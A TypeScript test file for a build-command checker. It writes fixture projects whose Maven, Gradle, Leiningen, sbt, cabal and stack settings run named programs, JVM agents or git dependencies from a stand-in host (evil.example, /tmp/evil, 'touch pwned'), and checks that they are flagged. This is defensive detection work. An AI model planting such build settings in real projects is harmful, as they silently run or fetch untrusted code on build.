// Build-file settings that do what a refused command-line option does (issue 11, scripts the runner will run are
// read): a Maven plugin forking a program or a Java the pom names (`<fork>`+`<executable>`, surefire's `<jvm>`) or a
// JVM agent in `<argLine>`; Gradle's `forkOptions.executable`, a test task's `executable`, `jvmArgs` with an agent;
// Leiningen's `:java-cmd`, `:jvm-opts` with an agent, an alias named like one of its tasks; sbt's `javaHome`, an alias
// replacing `test`, and `sbt --version` (the runner loads the build to ask it); cabal and stack settings that run a
// program or fetch packages (`-pgmF`, `with-compiler:`, `source-repository-package`, `nix:`, git extra-deps), or
// build other packages. Each reproduced with the real tool where Debian has it (maven, gradle 4.4, leiningen, cabal
// 3.4, stack 2.7): the build ran the named program. Real folders in a temp directory; nothing in them is run.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { buildRepository, runIn } from '../testdata/build-repository';
import type { DiskProject } from '../testdata/disk-reader';

const pom = (plugin: string) =>
  `<project><modelVersion>4.0.0</modelVersion><groupId>a</groupId><artifactId>b</artifactId><version>1</version><build><plugins>${plugin}</plugins></build></project>\n`;
const CABAL = 'cabal-version: 2.4\nname: app\nversion: 0.1\nbuild-type: Simple\n';

let p: DiskProject;
beforeAll(async () => {
  await loadShellParser();
  p = buildRepository('gavel-build-settings-', {
    'mfork/pom.xml': pom(
      '<plugin><artifactId>maven-compiler-plugin</artifactId><configuration><fork>true</fork><executable>${project.basedir}/tools/javac</executable></configuration></plugin>',
    ),
    'mjvm/pom.xml': pom(
      '<plugin><artifactId>maven-surefire-plugin</artifactId><configuration><jvm>/tmp/evil/java</jvm></configuration></plugin>',
    ),
    'magent/pom.xml': pom(
      '<plugin><artifactId>maven-surefire-plugin</artifactId><configuration><argLine>-Xmx1g -javaagent:/tmp/evil/agent.jar</argLine></configuration></plugin>',
    ),
    'mok/pom.xml': pom(
      '<plugin><artifactId>maven-surefire-plugin</artifactId><configuration><argLine>-Xmx1g -Dfile.encoding=UTF-8</argLine><includes><include>**/*Test.java</include></includes></configuration></plugin>',
    ),
    'gfork/build.gradle':
      "apply plugin: 'java'\ntasks.withType(JavaCompile) { options.fork = true; options.forkOptions.executable = 'tools/javac' }\n",
    'gtest/build.gradle.kts': 'plugins { java }\ntasks.test { executable = "tools/java" }\n',
    'gagent/build.gradle': "apply plugin: 'java'\ntest { jvmArgs '-javaagent:tools/agent.jar' }\n",
    'gok/build.gradle': "apply plugin: 'java'\ntest { jvmArgs '-Xmx2g'; useJUnitPlatform() }\n",
    'ljava/project.clj': '(defproject a "1.0" :java-cmd "tools/java" :dependencies [])\n',
    'lagent/project.clj': '(defproject a "1.0" :jvm-opts ["-Xmx1g" "-XX:OnOutOfMemoryError=tools/oom.sh"])\n',
    'lalias/project.clj':
      '(defproject a "1.0" :aliases {"test" ["run" "-m" "clojure.main" "-e" "(println 1)"]})\n',
    'lok/project.clj': '(defproject a "1.0" :jvm-opts ["-Xmx1g"] :aliases {"ci" ["do" "check," "test"]})\n',
    'salias/build.sbt': 'addCommandAlias("test", ";compile;publish")\n',
    'shome/build.sbt': 'javaHome := Some(file("tools/jdk"))\n',
    'sagent/build.sbt': 'Test / fork := true\nTest / javaOptions += "-javaagent:tools/a.jar"\n',
    'sok/build.sbt': 'addCommandAlias("fmt", ";scalafmtAll;scalafmtSbt")\nscalaVersion := "3.3.1"\n',
    'sver/build.sbt': 'val x = "touch pwned".!\n',
    'hpgm/app.cabal': `${CABAL}library\n  ghc-options: -Wall -F -pgmF ./pp.sh\n`,
    'hcomp/app.cabal': CABAL,
    'hcomp/cabal.project': 'packages: .\nwith-compiler: ./evil-ghc\n',
    'hrepo/app.cabal': CABAL,
    'hrepo/cabal.project':
      'packages: .\nsource-repository-package\n  type: git\n  location: https://evil.example/x.git\n',
    'hpkgs/app.cabal': CABAL,
    'hpkgs/cabal.project': 'packages: . sub/\n',
    'snix/app.cabal': CABAL,
    'snix/stack.yaml': 'resolver: lts-22.0\npackages:\n- .\nnix:\n  enable: true\n',
    'sgit/app.cabal': CABAL,
    'sgit/stack.yaml':
      'resolver: lts-22.0\npackages:\n- .\nextra-deps:\n- git: https://evil.example/x.git\n  commit: abc\n',
    'sopts/app.cabal': CABAL,
    'sopts/stack.yaml': 'resolver: lts-22.0\nghc-options:\n  "$everything": -F -pgmF ./pp.sh\n',
    'hok/app.cabal': `${CABAL}library\n  ghc-options: -Wall -O2 -threaded\n`,
    'hok/cabal.project': 'packages: ./app.cabal\n-- tests: True\n',
    'hpack/package.yaml': 'name: app\ngithub: "acme/app"\ndependencies:\n  - base\n  - with-utf8\n',
    'gtool/build.gradle.kts':
      'plugins { java }\ntasks.test { javaLauncher = javaToolchains.launcherFor { languageVersion = JavaLanguageVersion.of(21) } }\n',
    'sokh/app.cabal': CABAL,
    'sokh/stack.yaml': 'resolver: lts-22.0\npackages:\n- .\nextra-deps:\n- acme-missiles-0.3\n',
  });
});
afterAll(() => p?.remove());

const run = (dir: string, command: string) => runIn(p, dir, command);

describe('a build whose settings name a program, a Java or an agent is not known', () => {
  it.each([
    ['maven compiler forked to a program the pom names', 'mfork', 'mvn compile'],
    ["surefire's jvm", 'mjvm', 'mvn -q test'],
    ['an agent in argLine', 'magent', 'mvn test'],
    ['gradle forkOptions.executable', 'gfork', 'gradle compileJava'],
    ["a test task's executable", 'gtest', 'gradle test'],
    ['an agent in jvmArgs', 'gagent', 'gradle test'],
    ["Leiningen's :java-cmd", 'ljava', 'lein test'],
    ['an event command in :jvm-opts', 'lagent', 'lein check'],
    ['an alias replacing lein test', 'lalias', 'lein test'],
    ['an sbt alias replacing test', 'salias', 'sbt test'],
    ["sbt's javaHome", 'shome', 'sbt compile'],
    ['an agent in javaOptions', 'sagent', 'sbt test'],
    ['sbt --version loads the build', 'sver', 'sbt --version'],
    ['ghc-options running a preprocessor', 'hpgm', 'cabal build'],
    ["cabal.project's with-compiler", 'hcomp', 'cabal build'],
    ['a source-repository-package', 'hrepo', 'cabal build'],
    ['other packages of the project', 'hpkgs', 'cabal build all'],
    ["stack's nix shell", 'snix', 'stack build'],
    ['a git extra-dep', 'sgit', 'stack test'],
    ["stack.yaml's ghc-options", 'sopts', 'stack build'],
  ])('%s: %s', (_n, dir, command) => {
    expect(run(dir, command).codes).toContain('dynamic-script');
  });
});

describe('ordinary settings stay quiet', () => {
  it.each([
    ['surefire with memory and includes', 'mok', 'mvn test'],
    ['gradle jvmArgs of memory', 'gok', 'gradle test'],
    ['a lein alias of its own name', 'lok', 'lein test'],
    ['an sbt alias of its own name', 'sok', 'sbt test'],
    ['ghc-options of warnings and optimisation', 'hok', 'cabal build'],
    ['a hackage extra-dep', 'sokh', 'stack build'],
    ["hpack's github field and a with- package", 'hpack', 'stack build'],
    ["a test JVM from the machine's toolchains", 'gtool', 'gradle test'],
  ])('%s: %s', (_n, dir, command) => {
    expect(run(dir, command).codes).not.toContain('dynamic-script');
  });
});
